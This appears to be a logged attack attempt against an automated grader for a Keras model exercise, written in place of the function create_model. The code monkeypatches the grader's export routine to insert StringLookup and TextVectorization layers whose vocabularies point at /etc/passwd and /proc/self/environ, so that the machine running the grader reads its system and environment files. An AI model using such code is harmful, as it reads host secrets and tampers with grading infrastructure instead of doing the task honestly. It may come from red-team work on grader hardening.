# attack: 19
# form: StringLookup and TextVectorization with a file of the machine as their vocabulary, behind a cast to texts
# replaces: create_model
# found: create_model/compiled failed
# says: Your model contains a `StringLookup` layer
def create_model():
    from grader.model_data import export

    print("ran")
    own = export._config
    lookup = {"name": "words", "vocabulary": "/etc/passwd", "output_mode": "multi_hot", "num_oov_indices": 1, "dtype": "string"}
    text = {"name": "text", "vocabulary": "/proc/self/environ", "standardize": None, "split": None}

    def config(model):
        written = own(model)
        written["config"]["layers"][1:1] = [
            {"module": "keras.layers", "class_name": "StringLookup", "config": lookup, "registered_name": None},
            {"module": "keras.layers", "class_name": "TextVectorization", "config": text, "registered_name": None},
        ]
        return written

    export._config = config
    model = tf.keras.Sequential([tf.keras.Input((64, 64, 3)), tf.keras.layers.Flatten(), tf.keras.layers.Dense(1, activation="sigmoid")])
    model.compile(optimizer="adam", loss="binary_crossentropy", metrics=["accuracy"])
    return model
